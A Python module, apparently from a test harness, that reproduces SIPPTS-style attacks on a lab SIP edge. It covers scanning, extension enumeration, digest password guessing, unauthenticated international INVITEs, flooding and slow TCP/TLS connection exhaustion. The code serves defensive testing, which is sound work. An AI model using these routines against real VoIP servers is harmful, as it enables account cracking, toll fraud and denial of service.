"""Attacks that no packaged program makes: requests as SIPPTS writes them, guessing with a phone's face, slow connections.

SIPPTS is in neither of Debian's nor PyPI's archives (PyPI has the start scripts of a fork, without its modules). What
stands here sends messages with its marks: 71 letters where RFC 3261 wants a branch's cookie, a Call-ID of 32 hexadecimal
digits, the order of its lines and its User-Agent. Each function returns what an attacker has learned, in words.
"""

import secrets
import select
import socket
import ssl
import string
import time
from collections.abc import Callable

from .attack_ground import Ground
from .namespaces import EDGE_OUTSIDE, entered
from .sip import Message, credentials

# How many tries without an answer make an attacker give up.
SILENT_TRIES = 8
LETTERS = string.ascii_letters
ALLOW = "INVITE,REGISTER,ACK,CANCEL,BYE,NOTIFY,REFER,OPTIONS,INFO,SUBSCRIBE,UPDATE,PRACK,MESSAGE"
SDP = "v=0\r\no=anonymous 1 1 IN IP4 {0}\r\ns=-\r\nc=IN IP4 {0}\r\nt=0 0\r\nm=audio 2362 RTP/AVP 0\r\n"


class Attacker:
    """One UDP socket or TCP connection, and the requests that are said on it."""

    def __init__(self, ground: Ground, source: str, transport: str = "udp", face: str = "sippts") -> None:
        self.transport, self.face = transport, face
        with entered(ground.namespace):
            self.socket = socket.socket(type=socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM)
            self.socket.bind((source, 0))
        self.socket.settimeout(1)
        self.socket.connect((EDGE_OUTSIDE, 5060))
        self.address, self.port = self.socket.getsockname()

    def write(self, method: str, uri: str, user: str, to: str, *, authorization: str = "", call_id: str = "", sequence: int = 1) -> bytes:
        branch = "".join(secrets.choice(LETTERS) for _ in range(71))
        if self.face != "sippts":
            branch = "z9hG4bK" + secrets.token_hex(8)
        body = SDP.format(self.address) if method == "INVITE" else ""
        lines = [
            f"{method} {uri} SIP/2.0",
            f"Via: SIP/2.0/{self.transport.upper()} {self.address}:{self.port};branch={branch}",
            f"From: <sip:{user}@{EDGE_OUTSIDE}>;tag={secrets.token_hex(4)}",
            f"To: <sip:{to}@{EDGE_OUTSIDE}>",
            f"Contact: <sip:{user}@{self.address}:{self.port};transport={self.transport}>",
            f"Call-ID: {call_id or secrets.token_hex(16)}",
            *([f"Authorization: {authorization}"] if authorization else []),
            f"CSeq: {sequence} {method}",
            "Max-Forwards: 70",
            f"User-Agent: {'pplsip' if self.face == 'sippts' else 'Yealink SIP-T46S 66.85.0.5'}",
            f"Allow: {ALLOW}",
            *(["Expires: 10"] if method == "REGISTER" else []),
            *(["Content-Type: application/sdp"] if body else []),
            f"Content-Length: {len(body)}",
        ]
        return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()

    def send(self, raw: bytes) -> bool:
        """Whether the connection took it."""
        try:
            self.socket.sendall(raw)
        except OSError:
            return False
        return True

    def hear(self, seconds: float = 0.3) -> Message | None:
        """The next answer; two that came together over TCP count as one."""
        try:
            if select.select([self.socket], [], [], seconds)[0]:
                raw = self.socket.recv(65536)
                return Message.parse(raw) if raw else None
        except OSError:
            pass
        return None

    def say(self, *words: str, seconds: float = 0.3, **more) -> Message | None:
        return self.hear(seconds) if self.send(self.write(*words, **more)) else None


def scan(ground: Ground, source: str) -> str:
    """`sippts scan`: is there anything that speaks SIP, and what."""
    attacker = Attacker(ground, source)
    answers = [attacker.say("OPTIONS", f"sip:100@{EDGE_OUTSIDE}", "100", "100") for _ in range(5)]
    return ", ".join(answer.start for answer in answers if answer)


def extensions(ground: Ground, source: str, transport: str = "udp") -> str:
    """`sippts exten`: which of these names answers otherwise than the others."""
    attacker, answers = Attacker(ground, source, transport), {}
    for name in [str(number) for number in range(1001, 1061)]:
        answer = attacker.say("REGISTER", f"sip:{EDGE_OUTSIDE}", name, name, seconds=0.05)
        answers[name] = answer.status if answer else 0
    usual = {0, 401}
    return ", ".join(f"{name}: {status}" for name, status in answers.items() if status not in usual)


def guess(ground: Ground, source: str, transport: str = "udp", face: str = "sippts", tries: int = 60) -> str:
    """`sippts rcrack`, or the same as a phone would say it: which password is it."""
    attacker = Attacker(ground, source, transport, face)
    uri, silent = f"sip:{EDGE_OUTSIDE}", 0
    for number in range(tries):
        if silent == SILENT_TRIES:
            break
        call_id = secrets.token_hex(16)
        first = attacker.say("REGISTER", uri, "1001", "1001", call_id=call_id)
        silent += 1
        if first is None or first.status != 401:
            continue
        value = credentials(first.challenge(), "1001", f"guess-{number}", "REGISTER", uri)
        answer = attacker.say("REGISTER", uri, "1001", "1001", call_id=call_id, sequence=2, authorization=value)
        silent = 0 if answer else silent
        if answer and answer.status not in (401, 403):
            return f"guess-{number}: {answer.start}"
    return ""


def invite(ground: Ground, source: str, transport: str = "udp", face: str = "sippts") -> str:
    """`sippts invite`: does anybody put through a call without a password."""
    attacker, learned = Attacker(ground, source, transport, face), []
    dialled = ["600", "1001", "00442071838750", "900442071838750", "+442071838750", "011442071838750"]
    for number in dialled + [str(number) for number in range(1002, 1012)]:
        answer = attacker.say("INVITE", f"sip:{number}@{EDGE_OUTSIDE}", "1001", number)
        if answer and answer.status == 100:
            answer = attacker.hear()
        if answer and answer.status not in (401, 403, 407):
            learned.append(f"{number}: {answer.start}")
    return ", ".join(learned)


def leak(ground: Ground, source: str) -> str:
    """`sippts leak`: call a phone, let it hang up, ask for its password; nothing but a BYE would be of use."""
    attacker = Attacker(ground, source)
    answers = [attacker.say("INVITE", f"sip:{name}@{EDGE_OUTSIDE}", "100", name) for name in ("1001", "1002", "1003")]
    answers += [attacker.hear() for _ in range(3)]
    return ", ".join(answer.start for answer in answers if answer and answer.status not in (100, 401, 403, 407))


def flood(ground: Ground, source: str, method: str = "INVITE", seconds: float = 2) -> str:
    """`sippts flood`: as many requests as the socket takes."""
    attacker, end = Attacker(ground, source), time.monotonic() + seconds
    while time.monotonic() < end:
        attacker.send(attacker.write(method, f"sip:1001@{EDGE_OUTSIDE}", "100", "1001"))
    return ""


def slowly(ground: Ground, source: str, secured: bool, count: int = 150, seconds: float = 12) -> str:
    """Connections that stay and say a byte now and then, with TLS within the handshake, until none of them is left."""
    hello = _client_hello() if secured else b"REGISTER sip:x SIP/2.0\r\nVia: SIP/2.0/TCP 1.2.3.4\r\n"
    held = []
    with entered(ground.namespace):
        for _ in range(count):
            each = socket.socket()
            each.bind((source, 0))
            each.setblocking(False)
            each.connect_ex((EDGE_OUTSIDE, 5061 if secured else 5060))
            held.append(each)
    end, place, learned = time.monotonic() + seconds, 0, []
    while held and time.monotonic() < end:
        for each in held[:]:
            try:
                each.send(hello[place % len(hello) : place % len(hello) + 1])
                answer = each.recv(4096)
                if not answer:
                    held.remove(each)
                elif not secured:
                    learned.append(answer.split(b"\r\n")[0].decode(errors="replace"))
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                held.remove(each)
        place += 1
        time.sleep(0.1)
    for each in held:
        each.close()
    return ", ".join(learned[:3])


def _client_hello() -> bytes:
    """The first flight of a TLS client."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    half = context.wrap_bio(incoming, outgoing, server_hostname="example.test")
    try:
        half.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


Attack = Callable[[Ground, str], str]
